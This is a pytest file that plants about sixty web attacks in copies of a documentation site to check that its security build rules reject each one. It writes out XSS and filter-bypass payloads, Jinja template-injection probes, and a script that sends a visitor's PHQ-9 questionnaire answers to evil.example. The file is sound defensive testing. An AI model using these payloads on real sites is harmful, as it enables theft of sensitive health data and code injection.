"""Planted attacks: each edit a careless or hostile contributor could make, in its own copy
of the project, must fail `make build` and `make check`, naming the source file (issue 12).

Every attack runs `make build` and then `make check` in its own copy (two copies at a time:
the two commands take about 6 seconds together). Both must fail and name the file, so the
contributor's command and the build that CI and deploy run agree on every attack. Copies
share the project's .venv through a symlink; `make -o .venv/.installed` never lets make
touch it.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tools.site import ROOT, copy_project

PHQ9_PAGE = "docs/tracking/measurement-based-care.md"
STEAL = (
    "document.addEventListener('change',function(){var a=[].map.call(document.querySelectorAll('input:checked'),"
    "function(i){return i.value});fetch('https://evil.example/c?a='+a.join(','),{mode:'no-cors'});"
    "new Image().src='https://evil.example/i?a='+a.join(',')})"
)


@dataclass(frozen=True)
class Attack:
    text: str = ""  # appended to `page`
    expect: str = ""  # the rule id (or text) the build must print
    page: str = "docs/faq.md"
    front_matter: tuple[str, str] | None = None  # (old line, new line) in the page's front matter
    files: dict[str, str] = field(default_factory=dict)  # extra files to write
    links: dict[str, str] = field(default_factory=dict)  # symlink path -> target ("{tmp}" = outside folder)

    @property
    def names(self) -> str:
        """What the output must contain to name the source file."""
        return next(iter(self.links), None) or self.page


TITLE = ("title: Frequently asked questions",)
DESC = "description: Short, sourced answers"

ATTACKS: dict[str, Attack] = {
    # Scripts that a line-by-line reading of the Markdown misses
    "script-assembled-in-jinja": Attack('\n{{ "<scr" ~ "ipt>alert(1)</scr" ~ "ipt>" }}\n', "SEC101"),
    "script-after-unclosed-fence": Attack("\n```\n<script>alert(1)</script>\n", "SEC101"),
    "script-between-escaped-backticks": Attack("\n\\`<script>alert(1)</script>\\`\n", "SEC101"),
    "script-after-empty-comment": Attack("\n<!--><script>alert(1)</script>\n", "SEC101"),
    "script-after-bang-comment-end": Attack("\n<!-- note --!><script>alert(1)</script>\n", "SEC101"),
    "script-excused-by-allow-comment": Attack(
        "\n<script>alert(1)</script> <!-- allow SEC001: reviewed -->\n", "SEC101"
    ),
    "svg-with-script": Attack("\n<svg><script>alert(1)</script></svg>\n", "SEC101"),
    "planted-file-copies-phq9-answers": Attack(
        '\n<script src="../../javascripts/steal.js"></script>\n',
        "SEC101",
        page=PHQ9_PAGE,
        files={"docs/javascripts/steal.js": STEAL},
    ),
    "inline-script-copies-phq9-answers": Attack(f"\n<script>{STEAL}</script>\n", "SEC101", page=PHQ9_PAGE),
    "outside-script": Attack('\n<script src="https://evil.example/x.js"></script>\n', "SEC101"),
    # HTML in front matter: Material prints the description into <head> unescaped
    "html-in-front-matter-description": Attack(
        "", "SEC101", front_matter=(DESC, 'description: x"><script>alert(1)</script><meta name="x" content="')
    ),
    "html-in-front-matter-title": Attack(
        "", "SEC102", front_matter=(TITLE[0], 'title: "<img src=x onerror=alert(1)><script>alert(1)</script>"')
    ),
    # Event handlers
    "event-handler-on-next-line": Attack('\n<a href="../glossary/"\nonmouseover="alert(1)">Glossary</a>\n', "SEC102"),
    "event-handler-in-attr-list": Attack('\nRead this.\n{ onclick="alert(1)" }\n', "SEC102"),
    "svg-onload": Attack('\n<svg onload="alert(1)"></svg>\n', "SEC102"),
    "img-onerror": Attack('\n<img src="x.png" alt="" onerror="alert(1)">\n', "SEC102"),
    # Addresses that run code
    "entity-encoded-javascript-link": Attack('\n<a href="&#106;avascript:alert(1)">Help</a>\n', "SEC103"),
    "tab-in-javascript-scheme": Attack('\n<a href="java&#x09;script:alert(1)">Help</a>\n', "SEC103"),
    "javascript-href-in-attr-list": Attack('\n[Help](get-help-now.md){ href="javascript:alert(1)" }\n', "SEC103"),
    "vbscript-link": Attack('\n<a href="vbscript:msgbox(1)">Help</a>\n', "SEC103"),
    "data-url-link": Attack(
        '\n<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Help</a>\n', "SEC103"
    ),
    "data-url-image": Attack('\n<img alt="" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">\n', "SEC103"),
    "svg-xlink-javascript": Attack('\n<svg><a xlink:href="javascript:alert(1)"><path d="M0 0"/></a></svg>\n', "SEC103"),
    # Elements that embed, redirect or hide
    "base-href": Attack('\n<base href="https://evil.example/">\n', "SEC104"),
    "iframe": Attack('\n<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>\n', "SEC104"),
    "object": Attack('\n<object data="https://evil.example/x.pdf"></object>\n', "SEC104"),
    "embed": Attack('\n<embed src="https://evil.example/x.swf">\n', "SEC104"),
    "math-href": Attack('\n<math href="javascript:alert(1)"><mi>x</mi></math>\n', "SEC105"),
    "svg-animate-to-javascript": Attack(
        '\n<svg><a><animate attributeName="href" to="javascript:alert(1)"/><path d="M0 0"/></a></svg>\n', "SEC105"
    ),
    "noscript-tracker": Attack('\n<noscript><img alt="" src="https://evil.example/t.png"></noscript>\n', "SEC105"),
    "meta-refresh": Attack('\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', "SEC106"),
    "meta-referrer-unsafe-url": Attack('\n<meta name="referrer" content="unsafe-url">\n', "SEC106"),
    "outside-stylesheet-link": Attack('\n<link rel="stylesheet" href="https://evil.example/x.css">\n', "SEC106"),
    "form-with-action": Attack(
        '\n<form action="https://evil.example/"><input name="q"><button>Send</button></form>\n', "SEC107"
    ),
    "button-formaction": Attack('\n<button formaction="https://evil.example/">Send</button>\n', "SEC107"),
    # Requests to other hosts
    "outside-image": Attack('\n<img alt="" src="https://evil.example/t.png">\n', "SEC108"),
    "outside-image-markdown": Attack("\n![](https://evil.example/t.png)\n", "SEC108"),
    "outside-srcset": Attack('\n<img alt="" src="x.png" srcset="x.png 1x, https://evil.example/t.png 2x">\n', "SEC108"),
    "backslash-host-image": Attack('\n<img alt="" src="/\\evil.example/t.png">\n', "SEC108"),
    "video-poster": Attack('\n<video poster="https://evil.example/p.png"></video>\n', "SEC108"),
    "audio-src": Attack('\n<audio src="https://evil.example/a.mp3"></audio>\n', "SEC108"),
    "picture-source": Attack(
        '\n<picture><source srcset="https://evil.example/t.png"><img alt="" src="x.png"></picture>\n', "SEC108"
    ),
    "video-track": Attack('\n<video><track src="https://evil.example/t.vtt"></video>\n', "SEC108"),
    "link-ping": Attack('\n<a href="../glossary/" ping="https://evil.example/p">Glossary</a>\n', "SEC108"),
    # Styles
    "inline-style-url": Attack('\n<p style="background:url(https://evil.example/t.png)">x</p>\n', "SEC110"),
    "style-import": Attack("\n<style>@import url(https://evil.example/x.css);</style>\n", "SEC110"),
    "style-covers-banner": Attack(
        '\n<div style="position:fixed;top:0;left:0;right:0;height:12em;background:#fff;z-index:99">Welcome</div>\n',
        "SEC109",
    ),
    "style-in-attr-list": Attack('\nWelcome.\n{ style="position:fixed;top:0;left:0;right:0;height:12em" }\n', "SEC109"),
    "style-element-hides-banner": Attack("\n<style>.md-banner{display:none}</style>\n", "SEC109"),
    # Links and theme handles
    "tabnabbing-target-blank": Attack('\n[Help](https://evil.example/){ target="_blank" }\n', "SEC111"),
    "fake-banner-component": Attack('\n<div data-md-component="announce">All is well</div>\n', "SEC113"),
    # Files
    "symlink-to-private-file": Attack("", "SEC114", links={"docs/notes.md": "/etc/hostname"}),
    "symlink-to-outside-folder": Attack("", "SEC114", links={"docs/private": "{tmp}"}),
    # Jinja in page text
    "jinja-cycler-globals": Attack("\n{{ cycler.__init__.__globals__ }}\n", "SEC116"),
    "jinja-class-mro": Attack("\n{{ ''.__class__.__mro__[1].__subclasses__() }}\n", "SEC116"),
    "jinja-template-reference-context": Attack("\n{{ self._TemplateReference__context }}\n", "SEC116"),
    "jinja-theme-environment": Attack("\n{{ config.theme.get_env().from_string('{{ 7*7 }}').render() }}\n", "SEC116"),
    "jinja-plugin-on-config": Attack("\n{{ config.plugins.macros.on_config(config) }}\n", "SEC116"),
    "jinja-rewrite-banner-data": Attack("\n{{ config.extra.crisis.update({'call': '555'}) }}\n", "SEC116"),
}


def plant(project: Path, attack: Attack, outside: Path) -> None:
    """Make ``attack``'s edit in a copy of the project."""
    page = project / attack.page
    text = page.read_text(encoding="utf-8")
    if attack.front_matter:
        old, new = attack.front_matter
        line = next(line for line in text.splitlines() if line.startswith(old))
        text = text.replace(line, new, 1)
    page.write_text(text + attack.text, encoding="utf-8")
    for path, content in attack.files.items():
        (project / path).write_text(content, encoding="utf-8")
    for path, target in attack.links.items():
        if target == "{tmp}":
            outside.mkdir(exist_ok=True)
            (outside / "diary.md").write_text("# Private\n", encoding="utf-8")
            target = str(outside)
        os.symlink(target, project / path)


def run_make(project: Path, target: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["make", "--no-print-directory", "-o", ".venv/.installed", target],
        cwd=project,
        capture_output=True,
        text=True,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
        timeout=300,
    )


def _attack(base: Path, name: str, targets: list[str]) -> dict[str, subprocess.CompletedProcess[str]]:
    project = copy_project(base / name / "project")
    (project / ".venv").symlink_to(ROOT / ".venv")
    plant(project, ATTACKS[name], base / name / "outside")
    return {target: run_make(project, target) for target in targets}


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, subprocess.CompletedProcess[str]]]:
    """Every attack built in its own copy, two at a time."""
    base = tmp_path_factory.mktemp("attacks")
    jobs: dict[str, Callable[[], dict[str, subprocess.CompletedProcess[str]]]] = {
        name: (lambda name=name: _attack(base, name, ["build", "check"])) for name in ATTACKS
    }
    with ThreadPoolExecutor(max_workers=2) as pool:
        futures = {name: pool.submit(job) for name, job in jobs.items()}
        return {name: future.result() for name, future in futures.items()}


def _assert_refused(result: subprocess.CompletedProcess[str], attack: Attack, name: str, target: str) -> str:
    output = result.stdout + result.stderr
    assert result.returncode != 0, f"{name}: `make {target}` passed with the attack planted:\n{output[-3000:]}"
    shown = attack.names.removeprefix("docs/")
    assert shown in output, f"{name}: `make {target}` failed without naming {attack.names}:\n{output[-3000:]}"
    return output


@pytest.mark.parametrize("name", ATTACKS, ids=list(ATTACKS))
def test_attack_fails_make_build_naming_the_file(name: str, results) -> None:
    attack = ATTACKS[name]
    output = _assert_refused(results[name]["build"], attack, name, "build")
    assert attack.expect in output, f"{name}: expected {attack.expect} in the build output:\n{output[-3000:]}"


@pytest.mark.parametrize("name", ATTACKS, ids=list(ATTACKS))
def test_attack_fails_make_check_naming_the_file(name: str, results) -> None:
    attack = ATTACKS[name]
    output = _assert_refused(results[name]["check"], attack, name, "check")
    assert attack.expect in output, f"{name}: expected {attack.expect} in the make check output:\n{output[-3000:]}"


def test_there_are_at_least_forty_attacks() -> None:
    assert len(ATTACKS) >= 40


def test_real_site_passes_the_policy_cli(site_dir: Path) -> None:
    """`python -m tools.policy` (for other engines' builds) agrees with the build hook."""
    result = subprocess.run(
        [sys.executable, "-m", "tools.policy", str(site_dir)], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "0 security policy violations" in result.stdout
